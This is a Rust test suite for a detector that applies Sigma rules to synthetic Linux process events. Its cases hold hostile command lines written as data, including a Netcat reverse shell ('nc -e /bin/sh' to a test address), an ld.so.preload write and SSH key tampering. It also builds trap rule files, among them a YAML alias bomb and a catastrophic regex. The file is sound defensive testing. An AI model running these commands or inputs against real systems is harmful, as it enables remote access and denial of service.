//! The shipped rules over events: what fits is found, and told in Sigma's words; what does not is not.

use std::path::Path;
use tracewell_graph_core::graph::{Graph, Inserted};
use tracewell_graph_core::history::MemoryHistory;
use tracewell_graph_core::neighbourhood::{Detectors, Glimpse, Neighbourhood, OperationSet, Parent, Reach};
use tracewell_graph_core::structure::Structure;
use tracewell_model::{
    Detail, Event, EventNs, FileRef, Finding, HostId, Object, Operation, ProcessRef, Protocol, SocketRef,
};
use tracewell_parameters::Parameters;
use tracewell_sigma::{Rules, SigmaDetector};

const HOST: HostId = HostId(5);

type Step = (Operation, Object, Detail);

fn rules() -> Rules {
    let (rules, not_run) = Rules::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")).unwrap();
    assert_eq!((rules.len(), not_run), (5, vec![]));
    rules
}

fn process(pid: u32) -> ProcessRef {
    ProcessRef { pid, start: 1, uuid: None }
}

fn exec(path: &str, cmdline: &str) -> Step {
    let detail = Detail::Exec { cmdline: Some(cmdline.into()), environment: None };
    (Operation::Exec, Object::File(FileRef::at_path(path)), detail)
}

fn create(path: &str) -> Step {
    (Operation::Create, Object::File(FileRef::at_path(path)), Detail::None)
}

fn connect(remote: &str) -> Step {
    let socket = SocketRef { protocol: Protocol::Tcp, remote: Some(remote.parse().unwrap()), ..SocketRef::default() };
    (Operation::Connect, Object::Socket(socket), Detail::None)
}

/// A parent is one program, its child becomes another and does something; what the rules find in the last event, and whether more was
/// looked up for it.
fn found(detectors: &mut dyn Detectors, parent: &str, steps: &[Step]) -> (Vec<Finding>, bool) {
    let parameters = Parameters::default();
    let mut graph = Graph::new(HOST, &parameters.graph, Box::new(MemoryHistory::default()));
    let structure = Structure::new(&parameters.structure, 0);
    let fork = (Operation::Fork, Object::Process(process(2)), Detail::None);
    let parent = exec(parent, parent);
    let all = [(1, &parent), (1, &fork)].into_iter().chain(steps.iter().map(|step| (2, step)));
    let (mut last, mut was_called) = (Vec::new(), false);
    for (time, (pid, (op, object, detail))) in (1..).zip(all) {
        let event = Event {
            detail: detail.clone(),
            ..Event::new(EventNs(time * EventNs::SECOND), HOST, process(pid), *op, object.clone())
        };
        let inserted = graph.insert(&event).unwrap();
        structure.observe(&mut graph, &event, inserted).unwrap();
        let mut called = Vec::new();
        if detectors.operations().contains(*op) {
            detectors.triggered(*op, &glimpse(&graph, &event, inserted), &mut called);
        }
        (last, was_called) = (Vec::new(), !called.is_empty());
        for detector in called {
            let reach: Reach = detectors.reach(detector);
            let ends = (event.subject.key(HOST), event.object.key(HOST));
            let seen = Neighbourhood::around(&mut graph, &event, ends, reach, 6000).unwrap();
            last.extend(detectors.detect(detector, &seen));
        }
    }
    (last, was_called)
}

/// What an agent knows of an event at once.
fn glimpse<'a>(graph: &'a Graph, event: &'a Event, inserted: Inserted) -> Glimpse<'a> {
    let subject = graph.hot(inserted.subject);
    let parent = subject.role.process().and_then(|process| process.parent);
    let object = inserted.object.map(|object| graph.hot(object));
    Glimpse {
        subject: Some(&subject.attrs),
        object: object.map(|object| &object.attrs),
        path: object.and_then(|object| object.path()).map(|path| &**path),
        new_path: if let Detail::NewPath { path, .. } = &event.detail { Some(path) } else { None },
        parent: parent.map_or(Parent::None, |parent| Parent::Known(&graph.at_hand(parent).unwrap().attrs)),
        ..Glimpse::default()
    }
}

#[test]
fn what_fits_a_rule_is_found() {
    let sh = || exec("/bin/sh", "sh -c id");
    let cases: [(&str, Vec<Step>, &str); 9] = [
        ("/bin/bash", vec![exec("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444")], "Netcat hands out a shell"),
        ("/bin/bash", vec![exec("/usr/bin/nc", "nc -z host 22")], ""),
        ("/usr/sbin/nginx", vec![sh()], "A shell of a web server"),
        ("/usr/sbin/cron", vec![sh()], ""),
        ("/bin/bash", vec![sh(), create("/etc/ld.so.preload")], "A library for every program"),
        (
            "/bin/bash",
            vec![exec("/usr/bin/tee", "tee"), create("/home/a/.ssh/authorized_keys")],
            "Keys that may log in are changed by a shell's tools",
        ),
        ("/bin/bash", vec![exec("/usr/bin/ssh-copy-id", "ssh-copy-id"), create("/home/a/.ssh/authorized_keys")], ""),
        ("/usr/sbin/sshd", vec![sh(), connect("203.0.113.9:443")], "A shell connects"),
        ("/usr/sbin/sshd", vec![sh(), connect("127.0.0.1:443")], ""),
    ];
    let rules = rules();
    for (parent, steps, title) in cases {
        let (findings, was_called) = found(&mut SigmaDetector::new(rules.clone()), parent, &steps);
        let titles: Vec<_> = findings.iter().map(|finding| &*finding.title).collect();
        let expected: Vec<_> = Some(title).filter(|title| !title.is_empty()).into_iter().collect();
        assert_eq!(titles, expected, "{parent} {steps:?}");
        assert_eq!(was_called, !expected.is_empty(), "nothing is looked up for what none fits: {parent} {steps:?}");
    }
}

#[test]
fn a_finding_tells_the_event_in_the_words_of_the_rule() {
    let (findings, _) = found(&mut SigmaDetector::new(rules()), "/usr/sbin/nginx", &[exec("/bin/sh", "sh -c id")]);
    let finding = &findings[0];
    assert_eq!((&*finding.detector, finding.severity.name(), &*finding.techniques[0]), ("sigma", "high", "T1190"));
    assert!(
        finding.reason.contains("CommandLine: sh -c id") && finding.reason.contains("ParentImage: /usr/sbin/nginx")
    );
    assert_eq!(finding.nodes[0], process(2).key(HOST));
}

/// Nobody knows what lies in a folder: garbage and traps are told, and the rest is run.
#[test]
fn a_folder_full_of_traps_is_read_to_its_end() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| std::fs::write(folder.path().join(name), bytes).unwrap();
    let rule = |title: &str, condition: &str| {
        format!(
            "title: {title}\nlogsource:\n    category: process_creation\n    product: linux\n\
             detection:\n    selection:\n        Image|endswith: /nc\n    condition: {condition}\n"
        )
    };
    write("good.yml", rule("good", "selection").as_bytes());
    write("bytes.yml", &[0xff; 100]);
    write("large.yml", &vec![b'#'; 100_000]);
    write("parentheses.yml", rule("p", &"(".repeat(60_000)).as_bytes());
    write("balanced.yml", rule("b", &format!("{}selection{}", "(".repeat(20_000), ")".repeat(20_000))).as_bytes());
    write("nots.yml", rule("n", &format!("{}selection", "not ".repeat(15_000))).as_bytes());
    write("long.yml", rule("l", &format!("{}selection", "selection or ".repeat(1_000))).as_bytes());
    write("unknown.yml", rule("u", "nothing").as_bytes());
    write("nested.yml", "[".repeat(60_000).as_bytes());
    let laughs: String =
        (1..30).map(|n| format!("a{n}: &a{n} [{}]\n", vec![format!("*a{}", n - 1); 9].join(", "))).collect();
    write("laughs.yml", format!("a0: &a0 [ha]\n{laughs}").as_bytes());
    write(
        "regex.yml",
        rule("r", "selection").replace("Image|endswith: /nc", "Image|re: '(a{1000}){1000}{1000}'").as_bytes(),
    );
    std::fs::create_dir(folder.path().join("folder.yml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", folder.path().join("zero.yml")).unwrap();
    std::os::unix::fs::symlink("..", folder.path().join("loop")).unwrap();
    let (rules, not_run) = Rules::load(folder.path()).unwrap();
    let names: Vec<_> = not_run.iter().map(|rule| rule.path.file_name().unwrap().to_str().unwrap()).collect();
    assert_eq!(rules.len(), 1, "{not_run:?}");
    for name in [
        "balanced.yml",
        "bytes.yml",
        "large.yml",
        "laughs.yml",
        "long.yml",
        "nested.yml",
        "nots.yml",
        "parentheses.yml",
        "regex.yml",
        "unknown.yml",
        "zero.yml",
    ] {
        assert!(names.contains(&name), "{name} is not told: {names:?}");
    }
}

#[test]
fn operations_without_rules_are_not_looked_at() {
    let folder = tempfile::tempdir().unwrap();
    let (rules, _) = Rules::load(folder.path()).unwrap();
    assert_eq!(SigmaDetector::new(rules).operations(), OperationSet::default());
    let all = SigmaDetector::new(self::rules()).operations();
    assert!(all.contains(Operation::Exec) && !all.contains(Operation::Read));
}
